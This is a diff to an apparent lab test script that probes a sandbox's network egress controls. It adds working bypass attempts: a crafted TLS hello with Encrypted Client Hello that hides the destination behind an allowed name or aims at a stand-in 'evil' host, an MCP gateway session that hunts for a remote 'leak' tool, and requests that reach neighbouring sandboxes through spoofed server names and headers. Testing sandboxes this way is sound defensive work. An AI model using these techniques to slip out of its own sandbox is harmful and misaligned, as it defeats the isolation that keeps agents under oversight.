@@ -1,10 +1,12 @@
 """Ways around network rules, tried from inside a sandbox. Prints REACHED and what was heard, or why it was not."""
 import http.client
+import json
 import os
 import socket
 import ssl
 import struct
 import sys
+import time
 
 ALLOWED, EVIL = '6.6.6.2', '6.6.6.3'
 HOST = 'www.allowed.test'
@@ -73,6 +75,88 @@ def fronting():
 
 def legitimate():
     return reached(tls(ALLOWED, 443, HOST, HOST))
+
+
+def verified():
+    """As a program does that trusts what the sandbox trusts. Says who signed for the host."""
+    context = ssl.create_default_context()
+    s = socket.create_connection((ALLOWED, 443), 5)
+    with context.wrap_socket(s, server_hostname=HOST) as c:
+        c.sendall(('GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % HOST).encode())
+        return reached(c.recv(4096).decode('latin1'))
+
+
+def extension(kind, data):
+    return struct.pack('>HH', kind, len(data)) + data
+
+
+def hello(outer):
+    """A ClientHello of TLS 1.2 with an encrypted one inside (RFC 9849), of which nobody can tell for whom it is."""
+    name = outer.encode()
+    ech = b'\x00\x00\x01\x00\x01\x07' + struct.pack('>H', 32) + os.urandom(32) + struct.pack('>H', 160) + os.urandom(160)
+    extensions = (extension(0, struct.pack('>HBH', len(name) + 3, 0, len(name)) + name)
+                  + extension(10, b'\x00\x04\x00\x1d\x00\x17') + extension(11, b'\x01\x00')
+                  + extension(13, b'\x00\x08\x04\x03\x08\x04\x04\x01\x05\x03') + extension(0xfe0d, ech))
+    body = (b'\x03\x03' + os.urandom(32) + b'\x00' + b'\x00\x08\xc0\x2b\xc0\x2f\xc0\x2c\xc0\x30' + b'\x01\x00'
+            + struct.pack('>H', len(extensions)) + extensions)
+    message = b'\x01' + struct.pack('>I', len(body))[1:] + body
+    return b'\x16\x03\x01' + struct.pack('>H', len(message)) + message
+
+
+def encrypted_hello(address, outer):
+    s = socket.create_connection((address, 443), 5)
+    s.settimeout(5)
+    s.sendall(hello(outer))
+    said = b''
+    while len(said) < 6 or b'Cay' not in said and len(said) < 1200:
+        more = s.recv(4096)
+        if not more:
+            break
+        said += more
+    if said[:1] != b'\x16' or said[5:6] != b'\x02':
+        return 'no ServerHello'
+    return 'the node answered' if b'Cay egress authority' in said else 'REACHED ServerHello'
+
+
+def ech_behind_allowed_name():
+    return encrypted_hello(ALLOWED, HOST)
+
+
+def ech_behind_other_name():
+    return encrypted_hello(EVIL, 'evil.test')
+
+
+def call(port, path, headers, message):
+    c = http.client.HTTPConnection('127.0.0.1', port, timeout=30)
+    c.request('POST', path, json.dumps(message), {'Content-Type': 'application/json', **headers})
+    r = c.getresponse()
+    return r, r.read().decode('latin1')
+
+
+def mcp_gateway():
+    """Its connections to remote servers are made by the node, on the host."""
+    token = 'lab-token'
+    r, said = call(49983, '/mcp-gateway/start', {'X-Gateway-Token': token, 'X-Gateway-Current-Token': token}, {'lab': {}})
+    if r.status != 200:
+        return 'no gateway: %d %s' % (r.status, said[:100])
+    headers = {'Authorization': 'Bearer ' + token, 'Accept': 'application/json, text/event-stream'}
+    parameters = {'protocolVersion': '2025-06-18', 'capabilities': {}, 'clientInfo': {'name': 'way', 'version': '1'}}
+    r, said = call(50005, '/mcp', headers, {'jsonrpc': '2.0', 'id': 1, 'method': 'initialize', 'params': parameters})
+    if r.status != 200:
+        return 'not initialized: %d %s' % (r.status, said[:100])
+    headers['Mcp-Session-Id'] = r.headers.get('Mcp-Session-Id', '')
+    headers['Mcp-Protocol-Version'] = '2025-06-18'
+    call(50005, '/mcp', headers, {'jsonrpc': '2.0', 'method': 'notifications/initialized'})
+    end = time.time() + 15
+    while time.time() < end:
+        r, said = call(50005, '/mcp', headers, {'jsonrpc': '2.0', 'id': 2, 'method': 'tools/list'})
+        if 'leak' in said:
+            return 'REACHED a tool of the remote server'
+        status = call(49983, '/mcp-gateway/status', {}, {})[1]
+        if 'may not' in status or 'refuse' in status or 'rules' in status:
+            break
+        time.sleep(0.5)
+    return 'no tool: ' + ' '.join(status.split())[:120]
 
 
 def ask(server, name, kind, stream=False):
@@ -158,8 +242,9 @@ def icmp():
 def ipv6():
     s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
     s.settimeout(3)
-    s.connect(('2001:db8:66::3', 443))
-    return 'REACHED'
+    s.connect(('2001:db8:66::3', 80))
+    s.sendall(b'GET / HTTP/1.0\r\n\r\n')
+    return reached(s.recv(100).decode('latin1'))
 
 
 def connect():
@@ -195,6 +280,20 @@ def rebinding():
 
 def neighbour():
     return reached(tls('127.0.0.1', int(os.environ['EDGE']), os.environ['NEIGHBOUR'], os.environ['NEIGHBOUR']), 'HTTP/1.1 2')
+
+
+def neighbour_by_headers():
+    """Clients may name the sandbox in headers instead of the host."""
+    headers = 'E2b-Sandbox-Id: %s\r\nE2b-Sandbox-Port: %s\r\n' % tuple(
+        reversed(os.environ['NEIGHBOUR'].split('.')[0].split('-', 1)))
+    said = tls('127.0.0.1', int(os.environ['EDGE']), os.environ['OWN'], os.environ['API'], headers=headers)
+    return reached(said, 'HTTP/1.1 2')
+
+
+def neighbour_behind_own_name():
+    """The server name of TLS is the sandbox's own, the request is for another."""
+    said = tls('127.0.0.1', int(os.environ['EDGE']), os.environ['OWN'], os.environ['NEIGHBOUR'])
+    return reached(said, 'HTTP/1.1 2')
 
 
 try:
